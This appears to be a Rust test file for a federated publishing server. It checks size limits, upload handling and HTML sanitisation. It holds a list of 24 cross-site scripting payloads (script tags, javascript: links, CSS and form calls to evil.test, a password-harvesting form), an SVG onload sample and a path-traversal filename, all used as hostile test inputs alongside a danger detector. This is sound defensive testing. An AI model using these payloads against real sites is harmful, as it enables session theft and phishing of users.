//! Group D, and what members upload: strange shapes, great sizes, words that would be programs.

use super::{Scene, attack};
use crate::rig::difference;
use atelier::directory::signin;
use axum::body::{Body, to_bytes};
use http::{Request, StatusCode, header};
use serde_json::{Value, json};
use std::io::Cursor;
use tower::ServiceExt as _;

const MIB: usize = 1024 * 1024;

#[tokio::test]
async fn d44_strange_shapes_have_a_defined_answer_and_no_effect() {
    let scene = Scene::new().await;
    scene.withstands(44).await;
    // What only looks strange is understood.
    for (n, to) in [
        json!(attack::PUBLIC),
        json!(["as:Public", 7, null]),
        json!("Public"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut article = scene.evil.article(&format!("s{n}"), &format!("Shaped {n}"));
        article["to"] = to.clone();
        let mut said = scene.evil.activity(&format!("s{n}"), "Create", article);
        said["to"] = to;
        said["actor"] = json!({"id": scene.evil.actor, "type": "Person"});
        assert_eq!(scene.evil_says(&said).await, StatusCode::ACCEPTED);
        scene.rests().await;
        assert!(
            scene.loos.timeline().await.contains(&format!("Shaped {n}")),
            "{n}"
        );
    }
}

#[tokio::test]
async fn d45_a_body_has_a_size_and_no_packing() {
    let scene = Scene::new().await;
    let attacker = scene.attacker();
    let sized = |size: usize, id: &str| {
        let mut body = attacker
            .activity(id, "atelier:Wave", json!("x"))
            .to_string();
        body.push_str(&" ".repeat(size - body.len()));
        body
    };
    let fits = attacker
        .draft(&sized(MIB - 1, "fits"))
        .sent(&attacker.signer);
    assert_eq!(scene.sends(&fits).await, StatusCode::ACCEPTED);
    scene.rests().await;
    let before = scene.loos.dump().await;
    let mut too_large = attacker
        .draft(&sized(MIB + 1, "large"))
        .sent(&attacker.signer);
    assert_eq!(scene.sends(&too_large).await, StatusCode::PAYLOAD_TOO_LARGE);
    too_large
        .headers
        .push(("content-length", (MIB + 1).to_string()));
    assert_eq!(scene.sends(&too_large).await, StatusCode::PAYLOAD_TOO_LARGE);
    // Said to be large, it is not read at all.
    let mut liar = attacker.draft(&attacker.create(45)).sent(&attacker.signer);
    liar.headers.push(("content-length", "10737418240".into()));
    assert_eq!(scene.sends(&liar).await, StatusCode::PAYLOAD_TOO_LARGE);
    for coding in ["gzip", "br", "deflate", "identity, gzip"] {
        let mut packed = attacker.draft(&attacker.create(45)).sent(&attacker.signer);
        packed.headers.push(("content-encoding", coding.into()));
        assert_eq!(
            scene.sends(&packed).await,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{coding}"
        );
    }
    scene.is_as(&before).await;
}

/// A form as browsers send it.
fn form(name: &str, kind: &str, file: &[u8]) -> Vec<u8> {
    let mut form = format!(
        "--cut\r\ncontent-disposition: form-data; name=\"alt\"\r\n\r\nA picture\r\n--cut\r\n\
         content-disposition: form-data; name=\"picture\"; filename=\"{name}\"\r\ncontent-type: {kind}\r\n\r\n"
    )
    .into_bytes();
    form.extend(file);
    form.extend(b"\r\n--cut--\r\n");
    form
}

async fn uploads(scene: &Scene, token: &str, form: Vec<u8>) -> (StatusCode, Value) {
    let request = Request::post("/api/v1/media")
        .header("host", &scene.loos.config.domain)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "multipart/form-data; boundary=cut")
        .body(Body::from(form))
        .expect("a request");
    let answer = scene
        .loos
        .doors()
        .oneshot(request)
        .await
        .expect("infallible");
    let status = answer.status();
    let bytes = to_bytes(answer.into_body(), MIB).await.expect("a body");
    (status, serde_json::from_slice(&bytes).unwrap_or_default())
}

#[tokio::test]
async fn b24_an_upload_is_never_a_document() {
    let scene = Scene::new().await;
    let token = signin::create_token(&scene.loos, &scene.loos.ana, "a test")
        .await
        .expect("a token");
    let actor = scene.evil.document(super::EVIL_KEY).to_string();
    let before = scene.loos.dump().await;
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><text>{actor}</text></svg>"
    );
    for (name, kind, file) in [
        ("a.json", "application/activity+json", &actor),
        ("a.png", "image/png", &actor),
        ("a.jpg", "image/jpeg", &actor),
        ("a.svg", "image/svg+xml", &svg),
        ("a.png", "image/png", &svg),
        ("../../actor", "image/png", &actor),
    ] {
        let (status, _) = uploads(&scene, &token, form(name, kind, file.as_bytes())).await;
        assert!(status.is_client_error(), "{name} as {kind}: {status}");
    }
    scene.is_as(&before).await;

    // A picture with a document behind it is drawn anew: the document is not in it.
    let mut file = Cursor::new(Vec::new());
    image::DynamicImage::new_rgb8(8, 4)
        .write_to(&mut file, image::ImageFormat::Png)
        .expect("a picture");
    let mut both = file.into_inner();
    both.extend(actor.as_bytes());
    let (status, said) = uploads(&scene, &token, form("a.png", "image/png", &both)).await;
    assert!(status.is_success(), "{status} {said}");
    let name = said["name"].as_str().expect("a name");
    let path = format!("/media/{name}");
    let shown = json!({"kind": "experience", "name": "With a picture", "summary": "One.", "content": "One.", "language": "en",
        "audience": "public", "detail": {"scope": "One.", "limits": "One."}, "picture": {"name": name, "alt": "A picture"}});
    let request = Request::post("/api/v1/publications")
        .header("host", &scene.loos.config.domain)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .body(Body::from(shown.to_string()))
        .expect("a request");
    let answer = scene
        .loos
        .doors()
        .oneshot(request)
        .await
        .expect("infallible");
    assert!(answer.status().is_success(), "{}", answer.status());
    scene.rests().await;
    for accept in ["application/activity+json", "application/ld+json", "*/*"] {
        let request = Request::get(&path)
            .header("host", &scene.loos.config.domain)
            .header("authorization", format!("Bearer {token}"))
            .header("accept", accept)
            .body(Body::empty())
            .expect("a request");
        let answer = scene
            .loos
            .doors()
            .oneshot(request)
            .await
            .expect("infallible");
        assert_eq!(answer.status(), StatusCode::OK, "{accept}");
        let headers = answer.headers().clone();
        let text = |name: header::HeaderName| {
            headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned()
        };
        assert!(text(header::CONTENT_TYPE).starts_with("image/"), "{accept}");
        assert!(
            text(header::CONTENT_SECURITY_POLICY).contains("sandbox"),
            "{accept}"
        );
        let bytes = to_bytes(answer.into_body(), MIB).await.expect("a body");
        assert!(
            !String::from_utf8_lossy(&bytes).contains("publicKeyPem"),
            "{accept}"
        );
        assert_eq!(text(header::X_CONTENT_TYPE_OPTIONS), "nosniff", "{accept}");
    }
}

/// Words that would be programs if they were shown as they are.
const WORDS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>*{background:url(https://evil.test/x)}</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<form action=https://evil.test/><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    "</title></textarea></style></script><script>alert(1)</script>",
];

/// The tags of a page: their name and their attributes.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(rest.len());
        let name = rest[..end].to_ascii_lowercase();
        if name.is_empty() {
            continue;
        }
        rest = &rest[end..];
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if rest.is_empty() || rest.starts_with('>') {
                break;
            }
            let end = rest
                .find(|c: char| c.is_whitespace() || matches!(c, '=' | '>' | '/'))
                .unwrap_or(rest.len());
            let key = rest[..end.max(1)].to_ascii_lowercase();
            rest = rest[end.max(1)..].trim_start();
            let mut value = "";
            if let Some(after) = rest.strip_prefix('=') {
                let after = after.trim_start();
                let (start, stop) = match after.chars().next() {
                    Some(quote @ ('"' | '\'')) => {
                        (1, after[1..].find(quote).map_or(after.len(), |n| n + 1))
                    }
                    _ => (
                        0,
                        after
                            .find(|c: char| c.is_whitespace() || c == '>')
                            .unwrap_or(after.len()),
                    ),
                };
                value = &after[start..stop];
                rest = &after[(stop + start).min(after.len())..];
            }
            attributes.push((key, value.to_owned()));
        }
        tags.push((name, attributes));
    }
    tags
}

/// What in a page could run, load from elsewhere, or lead away without being asked.
fn dangers(page: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (name, attributes) in tags(page) {
        let of = |key: &str| {
            attributes
                .iter()
                .find(|(k, _)| k == key)
                .map(|(_, v)| v.as_str())
        };
        let own =
            |value: Option<&str>| value.is_some_and(|v| v.starts_with('/') && !v.starts_with("//"));
        let bad = match name.as_str() {
            "script" => !own(of("src")),
            "link" => {
                !own(of("href")) && of("rel") != Some("alternate") && of("rel") != Some("canonical")
            }
            "form" => !own(of("action")) && of("action").is_some(),
            "meta" => {
                of("http-equiv").is_some() && of("content").is_some_and(|c| c.contains("evil.test"))
            }
            "iframe" | "object" | "embed" | "base" | "math" | "style" => true,
            _ => false,
        };
        let acts = attributes.iter().any(|(key, value)| {
            let address: String = value
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase();
            let scheme = ["javascript:", "vbscript:", "data:text", "&#"]
                .iter()
                .any(|s| address.starts_with(s));
            let place = matches!(
                key.as_str(),
                "href" | "src" | "action" | "formaction" | "xlink:href" | "srcdoc"
            );
            key.starts_with("on")
                || (place && scheme)
                || (key == "style" && address.contains("url("))
        });
        if bad || acts {
            found.push(format!("<{name} {attributes:?}>"));
        }
    }
    found
}

#[test]
fn d48_the_eye_of_the_test_sees_what_it_looks_for() {
    let unseen: Vec<&str> = WORDS
        .into_iter()
        .filter(|words| dangers(words).is_empty())
        .collect();
    // Only what needs a frame around it is harmless alone.
    assert_eq!(unseen, ["' onmouseover='alert(1)' x='"]);
    assert!(!dangers("<a title='' onmouseover='alert(1)' x=''>").is_empty());
    assert!(
        dangers(
            "<script src=\"/static/a.js\"></script><a href=\"https://x.test\" title=\"<script>\">"
        )
        .is_empty()
    );
}

#[tokio::test]
async fn d48_no_words_of_strangers_become_a_program() {
    let scene = Scene::new().await;
    let before = scene.loos.dump().await;
    for (n, words) in WORDS.into_iter().enumerate() {
        for kind in ["Article", "Event"] {
            let mut object = scene.evil.article(&format!("{kind}{n}"), words);
            object["type"] = json!(kind);
            object["summary"] = json!(words);
            object["content"] = json!(words);
            object["inLanguage"] = json!(words);
            object["license"] = json!(words);
            object["url"] = json!(format!("https://evil.test/{words}"));
            object["image"] = json!({"type": "Image", "url": format!("https://evil.test/{words}"), "name": words, "mediaType": words});
            object["startTime"] = json!("2027-03-18T14:00:00Z");
            object["timezone"] = json!(words);
            object["location"] = json!({"type": "Place", "name": words, "address": {"streetAddress": words,
                "addressLocality": words, "addressCountry": words, "postalCode": words}});
            object["nameMap"] = json!({"en": words, words: words});
            object["contentMap"] = json!({"en": words, "\"><script>": words});
            object["tag"] =
                json!([{"type": "Hashtag", "name": words, "href": "javascript:alert(1)"}]);
            object["attachment"] =
                json!([{"type": "Link", "name": "Website", "href": "javascript:alert(1)"}]);
            object["atelier:scope"] = json!(words);
            object["atelier:website"] = json!("javascript:alert(1)");
            let said = scene
                .evil
                .activity(&format!("x{kind}{n}"), "Create", object);
            assert_eq!(scene.evil_says(&said).await, StatusCode::ACCEPTED);
        }
    }
    let mut actor = scene.evil.document(super::EVIL_KEY);
    actor["name"] = json!(WORDS[0]);
    actor["preferredUsername"] = json!(WORDS[2]);
    actor["summary"] = json!(WORDS.concat());
    actor["url"] = json!("javascript:alert(1)");
    actor["icon"] = json!({"type": "Image", "url": "javascript:alert(1)"});
    scene.evil.serves(&scene.evil.actor, actor);
    let update = scene.evil.activity("x", "Update", json!(scene.evil.actor));
    assert_eq!(scene.evil_says(&update).await, StatusCode::ACCEPTED);
    scene.rests().await;
    let changes = difference(&before, &scene.loos.dump().await);
    let ids: Vec<&str> = changes
        .iter()
        .filter_map(|line| line.strip_prefix("+ publication id="))
        .map(|line| line.split(' ').next().expect("an id"))
        .collect();
    assert_eq!(ids.len(), 2 * WORDS.len(), "all are shown somewhere");
    let mut paths: Vec<String> = [
        "/",
        "/papers",
        "/agenda",
        "/experiences",
        "/networks",
        "/search?q=alert",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    ]
    .map(str::to_owned)
    .to_vec();
    paths.extend(ids.iter().map(|id| format!("/publications/{id}")));
    for path in paths {
        let answer = scene.loos.get(&path, "text/html").await;
        let page = String::from_utf8_lossy(answer.body()).into_owned();
        assert_eq!(answer.status(), StatusCode::OK, "{path}");
        let found = dangers(&page);
        assert!(found.is_empty(), "{path}: {found:#?}");
        let policy = answer.headers()[header::CONTENT_SECURITY_POLICY]
            .to_str()
            .expect("text");
        assert!(
            policy.contains("default-src 'none'") && !policy.contains("unsafe-inline"),
            "{policy}"
        );
    }
}
